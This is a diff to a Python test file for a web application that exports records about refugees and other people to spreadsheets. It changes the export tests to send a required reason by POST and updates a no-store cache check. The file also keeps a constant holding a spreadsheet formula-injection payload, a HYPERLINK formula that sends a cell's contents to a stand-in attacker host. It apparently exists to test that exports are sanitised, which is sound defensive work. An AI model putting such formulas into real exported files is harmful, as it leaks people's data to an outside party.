@@ -14,11 +14,14 @@ from app.spreadsheets import clean_text, safe_cell, unquote_cell
 from tests.conftest import PASSWORD, log_in
 from tests.test_recruitment import application
 
+#: Every export asks why; any reason will do here.
+EXPORT_REASON = {"reason": "Monthly report to the municipality"}
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
 
 
 def export_rows(client, plural, file_format):
-    response = client.get(f"/people/{plural}/export.{file_format}")
+    response = client.post(f"/people/{plural}/export.{file_format}", data=EXPORT_REASON)
     assert response.status_code == 200
     if file_format == "csv":
         return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
@@ -311,7 +314,7 @@ def test_production_sends_hsts(app, client, monkeypatch):
 def test_pages_and_exports_of_a_logged_in_user_are_never_stored_but_static_files_may_be(client, login_as):
     login_as(Role.MANAGER, ["Aarhus"])
     assert client.get("/people/refugees").headers["Cache-Control"] == "no-store"
-    assert client.get("/people/refugees/export.csv").headers["Cache-Control"] == "no-store"
+    assert client.post("/people/refugees/export.csv", data=EXPORT_REASON).headers["Cache-Control"] == "no-store"
     assert client.get("/static/css/app.css").headers["Cache-Control"] != "no-store"
 
 
